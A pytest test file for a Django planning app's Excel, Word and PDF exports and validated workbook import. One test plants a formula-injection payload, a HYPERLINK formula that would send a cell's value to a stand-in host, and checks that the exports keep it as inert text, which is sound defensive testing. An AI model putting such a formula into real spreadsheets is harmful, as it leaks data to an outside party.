"""Excel round trip and Word export: the files are opened and read back."""

from __future__ import annotations

import datetime as dt
import io
from collections.abc import Callable

import pytest
from django.test import Client
from django.urls import reverse
from docx import Document
from docx.oxml.ns import qn
from openpyxl import Workbook, load_workbook

from shidian.accounts.models import User
from shidian.core.errors import DomainError, ImportRejected
from shidian.plans import services, workbook
from shidian.plans.models import Milestone, PendingPlanImport, PlanVersion, Task
from shidian.plans.tests import factories
from shidian.plans.workbook import export as workbook_export

pytestmark = pytest.mark.django_db


def test_template_has_drop_downs_for_focus_areas_and_the_pilots_departments() -> None:
    pilot = factories.pilot()
    factories.department(pilot, "柳州市住房和城乡建设局（演示）")
    wb = load_workbook(io.BytesIO(workbook.template_xlsx(pilot=pilot)))
    assert wb.sheetnames[:1] == ["说明"] and {"任务", "节点", "目标", "选项"} <= set(wb.sheetnames)
    assert [c.value for c in wb["任务"][1]] == workbook.TASK_COLUMNS
    formulas = {str(dv.sqref)[0]: dv.formula1 for dv in wb["任务"].data_validations.dataValidation}
    choices = wb["选项"]
    assert choices.sheet_state == "hidden"
    focus = [c.value for c in choices["A"][1:] if c.value]
    departments = [c.value for c in choices["B"][1:] if c.value]
    assert "农民工融入城镇" in focus and "多规合一" in focus and len(focus) == 18
    assert departments == ["柳州市住房和城乡建设局（演示）"]
    assert formulas["C"].startswith("=选项!$A$2") and formulas["D"].startswith("=选项!$B$2")


def test_export_xlsx_reads_back_and_reimports_into_a_new_draft(user: Callable[[str], User]) -> None:
    plan, version, _tasks, _ms = factories.make_plan(tasks=2, milestones=3)
    officer = user("demo-pilot")
    services.add_goal(version=version, text="常住人口城镇化率提高", target_year=2020, by=officer)
    content = workbook.export_xlsx(version=version)
    wb = load_workbook(io.BytesIO(content))
    rows = list(wb["任务"].iter_rows(min_row=2, values_only=True))
    assert [r[1] for r in rows] == ["测试任务1", "测试任务2"]
    milestone_rows = list(wb["节点"].iter_rows(min_row=2, values_only=True))
    assert len(milestone_rows) == 6
    assert milestone_rows[1][4] == "1"  # 节点 2 depends on 节点 1
    assert str(milestone_rows[2][8])[:10] == "2018-12-31"  # 计划完成 of the last milestone
    services.submit_plan(version=version, by=officer)
    services.approve_plan(version=version, by=user("demo-province"))
    draft = services.start_new_version(plan=plan, by=officer)
    services.delete_task(task=draft.tasks.first(), by=officer)  # type: ignore[arg-type]
    preview = workbook.preview_import(version=draft, content=content)
    assert (
        len(preview.tasks) == 2 and preview.milestone_count == 6 and preview.goals == [("常住人口城镇化率提高", 2020)]
    )
    workbook.apply_import(version=draft, content=content, by=officer)
    assert draft.tasks.count() == 2
    assert Milestone.objects.filter(task__version=draft, planned_finish=dt.date(2018, 12, 31)).count() == 2
    third = Milestone.objects.get(task__version=draft, name="节点1-3")
    assert [d.name for d in third.depends_on.all()] == ["节点1-2"]


def _bad_workbook() -> bytes:
    wb = Workbook()
    tasks = wb.worksheets[0]
    tasks.title = "任务"
    tasks.append(workbook.TASK_COLUMNS)
    tasks.append(
        ["1", "好任务", "城乡统筹发展", "柳州市住房和城乡建设局（演示）", "", "张三", "", "2018-12-31", 1, "否"]
    )
    tasks.append(["2", "坏任务", "不存在的领域", "北京市某局", "", "", "", "2018-13-01", "x", "否"])
    milestones = wb.create_sheet("节点")
    milestones.append(workbook.MILESTONE_COLUMNS)
    milestones.append(["1", "1", "调研", 30, "3", "报告", ""])  # 3 does not exist
    milestones.append(["1", "2", "验收", 30, "1", "报告", "2019-05-01"])  # after the deadline
    milestones.append(["9", "1", "无主节点", 5, "", "", ""])
    goals = wb.create_sheet("目标")
    goals.append(workbook.GOAL_COLUMNS)
    goals.append(["目标", 2019])
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def test_import_reports_every_error_by_sheet_row_and_column_and_writes_nothing(user: Callable[[str], User]) -> None:
    _plan, version, _tasks, _ms = factories.make_plan()
    before = (Task.objects.count(), Milestone.objects.count())
    with pytest.raises(ImportRejected) as exc:
        workbook.apply_import(version=version, content=_bad_workbook(), by=user("demo-pilot"))
    found = {(e.sheet, e.row, e.column) for e in exc.value.errors}
    assert ("任务", 3, "重点领域") in found
    assert ("任务", 3, "牵头单位") in found
    assert ("任务", 3, "责任人") in found
    assert ("任务", 3, "完成期限") in found
    assert ("任务", 3, "权重") in found
    assert ("节点", 2, "前置节点编号") in found
    assert ("节点", 3, "要求完成时间") in found
    assert ("节点", 4, "任务编号") in found
    assert ("目标", 2, "目标年份") in found
    text = str(exc.value)
    assert "工作表“任务”，第 3 行，“牵头单位”列" in text
    assert (Task.objects.count(), Milestone.objects.count()) == before


def test_import_refuses_a_cycle_and_a_non_xlsx_file(user: Callable[[str], User]) -> None:
    _plan, version, _tasks, _ms = factories.make_plan()
    wb = Workbook()
    tasks = wb.worksheets[0]
    tasks.title = "任务"
    tasks.append(workbook.TASK_COLUMNS)
    tasks.append(["1", "任务", "城乡统筹发展", "柳州市住房和城乡建设局（演示）", "", "张三", "", "2018-12-31", 1, "否"])
    ms = wb.create_sheet("节点")
    ms.append(workbook.MILESTONE_COLUMNS)
    ms.append(["1", "1", "甲", 5, "2", "", ""])
    ms.append(["1", "2", "乙", 5, "1", "", ""])
    out = io.BytesIO()
    wb.save(out)
    with pytest.raises(ImportRejected) as exc:
        workbook.preview_import(version=version, content=out.getvalue())
    assert any("循环" in e.message and e.sheet == "任务" and e.row == 2 for e in exc.value.errors)
    with pytest.raises(DomainError):
        workbook.preview_import(version=version, content=b"%PDF-1.4 not a workbook")


def test_import_through_the_pages_previews_then_confirms(client_as: Callable[[str], Client]) -> None:
    plan, version, _tasks, _ms = factories.make_plan(tasks=1, milestones=2)
    content = workbook.export_xlsx(version=version)
    services.delete_task(task=version.tasks.get(), by=factories.officer_for(plan.pilot))
    client = client_as("demo-pilot")
    url = reverse("plans:import", kwargs={"pilot_id": plan.pilot_id})
    from django.core.files.uploadedfile import SimpleUploadedFile

    response = client.post(url, {"file": SimpleUploadedFile("plan.xlsx", content)})
    assert 'data-testid="import-preview"' in response.content.decode()
    assert version.tasks.count() == 0  # nothing written at preview
    pending = response.context["pending"]
    # The file waits in the database with an expiry, not in the session.
    assert not any(isinstance(v, dict) and "content" in v for v in dict(client.session).values())
    assert bytes(PendingPlanImport.objects.get(pk=pending.pk).content) == content
    response = client.post(url, {"confirm": "1", "import_id": pending.pk})
    assert response.status_code == 302
    assert version.tasks.count() == 1
    applied = PendingPlanImport.objects.get(pk=pending.pk)
    assert applied.applied_at is not None and bytes(applied.content) == b""
    # A confirmed file cannot be confirmed again.
    client.post(url, {"confirm": "1", "import_id": pending.pk})
    assert version.tasks.count() == 1
    bad = client.post(url, {"file": SimpleUploadedFile("plan.xlsx", _bad_workbook())})
    assert 'data-testid="import-errors"' in bad.content.decode()
    assert version.tasks.count() == 1


def test_docx_export_reads_back_with_east_asian_fonts(client_as: Callable[[str], Client]) -> None:
    plan, version, _tasks, _ms = factories.make_plan(tasks=1, milestones=2)
    response = client_as("demo-province").get(reverse("plans:export_docx", kwargs={"pilot_id": plan.pilot_id}))
    assert response.status_code == 200
    document = Document(io.BytesIO(response.content))
    paragraphs = [p for p in document.paragraphs if p.text.strip()]
    assert paragraphs[0].text == "柳州市国家新型城镇化综合试点工作方案"
    title_run = paragraphs[0].runs[0]
    section = document.sections[0]
    assert section.page_width is not None and abs(section.page_width.mm - 210) < 0.5  # A4, not US Letter
    assert section.page_height is not None and abs(section.page_height.mm - 297) < 0.5
    assert "PAGE" in section.footer._element.xml and "PAGE" in section.even_page_footer._element.xml
    assert title_run._element.get_or_add_rPr().get_or_add_rFonts().get(qn("w:eastAsia")) == "方正小标宋简体"
    cells = [c.text for row in document.tables[0].rows for c in row.cells]
    assert "测试任务1" in cells and "　节点1-2" in cells
    xlsx = client_as("demo-province").get(reverse("plans:export_xlsx", kwargs={"pilot_id": plan.pilot_id}))
    assert load_workbook(io.BytesIO(xlsx.content))["任务"]["B2"].value == "测试任务1"
    assert PlanVersion.objects.get(pk=version.pk).status == "draft"


def test_formula_looking_and_control_characters_stay_text_in_plan_exports(client_as: Callable[[str], Client]) -> None:
    plan, _version, tasks, _ms = factories.make_plan(tasks=1, milestones=1)
    formula = '=HYPERLINK("http://example.invalid/?d="&B3,"点此查看详情")'
    Task.objects.filter(pk=tasks[0].pk).update(title=formula + "\x01\x0b")
    client = client_as("demo-province")
    xlsx = client.get(reverse("plans:export_xlsx", kwargs={"pilot_id": plan.pilot_id}))
    assert xlsx.status_code == 200
    cell = load_workbook(io.BytesIO(xlsx.content))["任务"]["B2"]
    assert cell.data_type == "s" and cell.value.startswith("=HYPERLINK")  # a string, not a formula
    docx = client.get(reverse("plans:export_docx", kwargs={"pilot_id": plan.pilot_id}))
    assert docx.status_code == 200
    cells = [c.text for row in Document(io.BytesIO(docx.content)).tables[0].rows for c in row.cells]
    assert any(text.startswith("=HYPERLINK") for text in cells)


def test_pdf_export_is_the_plan_laid_out_on_a4(client_as: Callable[[str], Client]) -> None:
    from pypdf import PdfReader

    plan, _version, _tasks, _ms = factories.make_plan(tasks=1, milestones=1)
    response = client_as("demo-province").get(reverse("plans:export_pdf", kwargs={"pilot_id": plan.pilot_id}))
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    reader = PdfReader(io.BytesIO(response.content))
    page = reader.pages[0]
    assert abs(float(page.mediabox.width) - 595.3) < 1 and abs(float(page.mediabox.height) - 841.9) < 1
    text = "".join(p.extract_text() for p in reader.pages).replace("\n", "")
    assert "柳州市国家新型城镇化综合试点工作方案" in text and "测试任务1" in text and "— 1 —" in text


def test_an_expired_preview_cannot_be_confirmed(client_as: Callable[[str], Client]) -> None:
    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.utils import timezone

    plan, version, _tasks, _ms = factories.make_plan(tasks=1, milestones=2)
    content = workbook.export_xlsx(version=version)
    services.delete_task(task=version.tasks.get(), by=factories.officer_for(plan.pilot))
    client = client_as("demo-pilot")
    url = reverse("plans:import", kwargs={"pilot_id": plan.pilot_id})
    pending = client.post(url, {"file": SimpleUploadedFile("plan.xlsx", content)}).context["pending"]
    assert pending.expires_at > timezone.now()
    PendingPlanImport.objects.filter(pk=pending.pk).update(expires_at=timezone.now() - dt.timedelta(seconds=1))
    response = client.post(url, {"confirm": "1", "import_id": pending.pk}, follow=True)
    assert "预览已失效" in response.content.decode()
    assert version.tasks.count() == 0
    assert client.post(url, {"confirm": "1", "import_id": "x"}).status_code == 302
    assert version.tasks.count() == 0


def test_the_plan_document_is_dated_on_the_business_date(user: Callable[[str], User]) -> None:
    from shidian.core import clock
    from shidian.core.documents import render_docx

    plan, version, _tasks, _ms = factories.make_plan(tasks=1, milestones=1)

    def dated() -> str:
        texts = [p.text for p in Document(io.BytesIO(workbook.export_docx(version=version))).paragraphs]
        return next(t for t in texts if t.endswith("日") and t.startswith("20"))

    with clock.travel_to(dt.date(2019, 7, 10)):
        assert dated() == "2019年7月10日"  # a draft: the day it is printed
        services.submit_plan(version=version, by=factories.officer_for(plan.pilot))
    version.refresh_from_db()
    with clock.travel_to(dt.date(2019, 8, 2)):
        assert dated() == "2019年7月10日"  # submitted: the day it was submitted
        services.approve_plan(version=version, by=user("demo-province"))
    with clock.travel_to(dt.date(2020, 1, 6)):
        version.refresh_from_db()
        assert workbook.plan_date(version) == dt.date(2019, 8, 2)  # approved: the day of approval
        assert render_docx(workbook_export._plan_document(version))
